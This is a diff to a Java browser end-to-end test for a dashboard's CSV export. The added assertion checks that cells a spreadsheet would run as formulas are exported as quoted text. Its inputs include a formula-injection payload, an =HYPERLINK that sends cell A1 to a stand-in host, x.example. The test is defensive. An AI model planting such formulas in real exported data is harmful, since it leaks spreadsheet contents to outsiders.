@@ -256,6 +256,12 @@ class DashboardEndToEndTest {
         for (String figure : List.of("share", "toB", "toC", "alerts", "scorecards", "reviews", "retention")) {
             assertThat((String) js("return window.dashboardCsv('" + figure + "');")).as(figure).contains(",");
         }
+        // A cell a spreadsheet would run as a formula is downloaded as quoted text; numbers stay as they are.
+        assertThat((String) js("return ['=HYPERLINK(\"http://x.example/?\"&A1)', '=1+2', '@SUM(A1)', '+1+2', '-1+2',"
+                + " '\\tx', '\\r=1', 'x;=1', -12.5, '-12.50', '+3', null, 'acme']"
+                + ".map(window.dashboardCsvCell).join(',');"))
+                .isEqualTo("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",\"'=1+2\",\"'@SUM(A1)\",\"'+1+2\",\"'-1+2\","
+                        + "\"'\tx\",\"'\r=1\",\"x;=1\",-12.5,-12.50,+3,,acme");
         Files.write(target.resolve("dashboard-en.png"), ((TakesScreenshot) browser).getScreenshotAs(OutputType.BYTES));
     }
 
